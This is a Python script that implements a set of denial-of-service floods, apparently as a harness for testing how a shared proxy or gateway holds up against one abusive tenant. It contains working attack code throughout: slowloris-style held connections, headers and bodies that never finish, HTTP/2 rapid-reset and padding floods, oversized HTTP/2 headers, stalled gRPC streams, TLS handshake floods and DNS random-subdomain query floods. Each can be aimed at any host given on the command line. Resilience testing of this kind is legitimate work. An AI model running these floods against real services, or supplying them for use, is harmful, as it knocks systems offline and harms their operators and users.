"""What a stranger does in a host, or at the API, to be paid for by others. Each flood goes on until its input ends.

Usage: floods.py NAME [ARGUMENT...]; it prints "ready" once what it holds is held, and at its end what became of it.
"""

import collections
import json
import os
import resource
import select
import socket
import ssl
import sys
import threading
import time

seen = collections.Counter()
over = threading.Event()


def until_told():
    """Stops what goes on when standard input ends."""
    def wait():
        while os.read(0, 1024):
            pass
        over.set()
    threading.Thread(target=wait, daemon=True).start()


def ready():
    print("ready", flush=True)


def step_back():
    """Has every other process of the machine go first. What is looked for is whether what this one sends or holds is paid
    for by others, not whether a machine has enough processors."""
    os.nice(19)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


def many_files():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def dial(host, port, sends=0):
    """`sends`: bytes that the kernel keeps of what is sent and not taken; 0: its own choice."""
    connection = socket.socket()
    if sends:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, sends)
    connection.settimeout(5)
    connection.connect((host, port))
    connection.setblocking(False)
    return connection


def hold(host, port, count, first=b"", sends=0):
    """Opens up to `count` connections, says `first` on each, and keeps them; those that are ended are opened again."""
    many_files()
    open_ones = []
    announced = False
    while not over.is_set():
        for _ in range(200):
            if len(open_ones) >= count:
                break
            try:
                connection = dial(host, port, sends)
                if first:
                    try:
                        connection.send(first)
                        while sends:
                            connection.send(b"x" * sends)
                    except BlockingIOError:
                        pass
                open_ones.append(connection)
                seen["opened"] += 1
            except OSError as error:
                seen[type(error).__name__] += 1
                break
        if not announced and (len(open_ones) >= count or seen["ended by them"] or seen["opened"] > 2 * count):
            ready()
            announced = True
        poll = select.poll()
        by_number = {connection.fileno(): connection for connection in open_ones}
        for number in by_number:
            poll.register(number, select.POLLIN)
        ended = set()
        for number, _ in poll.poll(50):
            try:
                data = by_number[number].recv(4096)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                seen[data[9:12].decode()] += 1
            if not data or b"onnection: close" in data:
                ended.add(number)
        for number in ended:
            by_number[number].close()
        seen["ended by them"] += len(ended)
        open_ones = [connection for connection in open_ones if connection.fileno() >= 0]
        if ended:
            # As impatient as a client may be that is told no.
            time.sleep(0.05)
    seen["held at the end"] = len(open_ones)


def idle(host, port, count):
    hold(host, int(port), int(count))


def unfinished(host, port, count):
    """Heads of 58 KB whose end does not come."""
    head = f"GET / HTTP/1.1\r\nhost: {host}\r\n".encode()
    for n in range(14):
        head += f"x-{n}: ".encode() + b"x" * 4100 + b"\r\n"
    hold(host, int(port), int(count), head)


def silent_target(host, port, count):
    """Requests that wait for a target that never answers."""
    hold(host, int(port), int(count), f"GET /silent HTTP/1.1\r\nhost: {host}\r\n\r\n".encode())


def hello(name):
    """What a client that asks for `name` says first."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def passthrough(host, port, name, count):
    """Connections that are passed on to a target that reads nothing, each with as much as the way there takes."""
    hold(host, int(port), int(count), hello(name), sends=16384)


def requests(host, port):
    """Short requests with long paths, as fast as they are answered: each leaves a long line in the log."""
    ready()
    request = f"GET /{'x' * 6000} HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    while not over.is_set():
        try:
            with socket.create_connection((host, int(port)), timeout=10) as connection:
                stream = connection.makefile("rb")
                while not over.is_set():
                    connection.sendall(request)
                    length, line = 0, stream.readline()
                    seen[line[9:12].decode()] += 1
                    while line.strip():
                        line = stream.readline()
                        if line.lower().startswith(b"content-length:"):
                            length = int(line.split(b":")[1])
                    stream.read(length)
        except (OSError, ValueError) as error:
            seen[type(error).__name__] += 1
            time.sleep(0.05)


def unsigned(host, port, count):
    """Bodies of 4 MiB, unsigned, whose last byte does not come."""
    many_files()
    size = 4 << 20
    head = f"POST / HTTP/1.1\r\nhost: vpc-lattice.us-east-1.amazonaws.com\r\ncontent-length: {size}\r\n\r\n".encode()
    open_ones = []
    for _ in range(int(count)):
        try:
            connection = socket.create_connection((host, int(port)), timeout=10)
            connection.sendall(head + b"x" * (size - 1))
            open_ones.append(connection)
            seen["sent"] += 1
        except OSError as error:
            seen[type(error).__name__] += 1
    ready()
    over.wait()


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """Without indexing, without Huffman's code; up to 16,000 bytes."""
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, bytearray([127])
        while rest >= 128:
            out.append(rest % 128 | 128)
            rest //= 128
        return bytes(out) + bytes([rest]) + data
    return b"\0" + text(name.encode()) + text(value.encode())


def http2(host, port, ca):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    stream = context.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname=host)
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    stream.settimeout(2)
    return stream


def head(host, path, *more, post=False):
    # :method and :scheme https of the static table.
    method = b"\x83" if post else b"\x82"
    return method + b"\x87" + field(":authority", host) + field(":path", path) + b"".join(more)


def streams(host, port, ca, connections, each, block, data=()):
    """`each` requests on each connection, whose bodies do not end; what of them is reset is counted."""
    many_files()
    open_ones = []
    for _ in range(int(connections)):
        try:
            stream = http2(host, int(port), ca)
            for n in range(1, 2 * each, 2):
                stream.sendall(frame(1, 4, n, block))
                seen["requests"] += 1
                for piece in data:
                    stream.sendall(frame(0, 0, n, piece))
            open_ones.append(stream)
        except OSError as error:
            seen[type(error).__name__] += 1
    ready()
    while not over.is_set():
        for stream in open_ones:
            stream.settimeout(0.01)
            try:
                seen["reset"] += stream.recv(65536).count(b"\x00\x00\x04\x03\x00")
            except OSError:
                pass
        time.sleep(0.1)


def grpc(host, port, ca, connections):
    """Calls to a gRPC target that never answers, each with a message."""
    block = head(host, "/shop.Cart/Slow", field("content-type", "application/grpc"), field("te", "trailers"), post=True)
    message = b"\0" + (8000).to_bytes(4, "big") + b"x" * 8000
    streams(host, port, ca, connections, 100, block, [message])


def slow_bodies(host, port, ca, connections):
    """Bodies of 128 KB at a target that reads nothing: as much as a stream's window lets through."""
    streams(host, port, ca, connections, 8, head(host, "/silent", post=True), [b"x" * 16_000] * 8)


def padding(host, port, ca):
    """Frames of nothing but padding, as many as are taken."""
    ready()
    block = head(host, "/silent", post=True)
    while not over.is_set():
        try:
            stream = http2(host, int(port), ca)
            stream.sendall(frame(1, 4, 1, block))
            while not over.is_set():
                stream.sendall(frame(0, 8, 1, b"\0") * 200)
                seen["frames"] += 200
        except OSError as error:
            seen[type(error).__name__] += 1
            time.sleep(0.05)


def http2_heads(host, port, ca, connections):
    """Heads of 12 KB, a hundred on each connection, at a target that never answers."""
    many_files()
    block = head(host, "/silent", field("x-long", "x" * 12_000))
    open_ones = []
    for _ in range(int(connections)):
        try:
            stream = http2(host, int(port), ca)
            for n in range(100):
                stream.sendall(frame(1, 5, 1 + 2 * n, block))
                seen["heads"] += 1
            open_ones.append(stream)
        except OSError as error:
            seen[type(error).__name__] += 1
    ready()
    while not over.is_set():
        for stream in open_ones:
            stream.settimeout(0.01)
            try:
                data = stream.recv(65536)
                seen["refused"] += data.count(b"\x00\x00\x04\x03\x00")
            except OSError:
                pass
        time.sleep(0.1)


def resets(host, port, ca):
    """Requests that are reset as soon as they are made."""
    ready()
    block = head(host, "/")
    while not over.is_set():
        try:
            stream, number = http2(host, int(port), ca), 1
            while not over.is_set():
                stream.sendall(b"".join(
                    frame(1, 5, n, block) + frame(3, 0, n, b"\0\0\0\x08") for n in range(number, number + 200, 2)))
                number += 200
                seen["requests"] += 100
        except OSError as error:
            seen[type(error).__name__] += 1
            time.sleep(0.05)


def handshakes(host, port, ca):
    """TLS handshakes, one after the other, on four threads."""
    ready()

    def shake():
        context = ssl.create_default_context(cafile=ca)
        while not over.is_set():
            try:
                with socket.create_connection((host, int(port)), timeout=10) as plain:
                    with context.wrap_socket(plain, server_hostname=host):
                        seen["handshakes"] += 1
            except OSError as error:
                seen[type(error).__name__] += 1

    threads = [threading.Thread(target=shake) for _ in range(4)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]


def names(server, count):
    """Questions for names that are not there, without waiting for answers."""
    ready()
    socket_ = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    n = 0
    while not over.is_set():
        question = f"n{n}".encode()
        packet = n.to_bytes(2, "big")[-2:] if n < 65536 else os.urandom(2)
        packet += b"\1\0\0\1\0\0\0\0\0\0" + bytes([len(question)]) + question + b"\4test\0\0\1\0\1"
        try:
            socket_.sendto(packet, (server, 53))
            seen["questions"] += 1
        except OSError as error:
            seen[type(error).__name__] += 1
        n += 1
        if n % int(count) == 0:
            time.sleep(0.01)


if __name__ == "__main__":
    step_back()
    until_told()
    {flood.__name__: flood for flood in (
        idle, unfinished, silent_target, passthrough, requests, unsigned, http2_heads, grpc, slow_bodies, padding, resets,
        handshakes, names)}[sys.argv[1]](*sys.argv[2:])
    print(json.dumps(seen), flush=True)
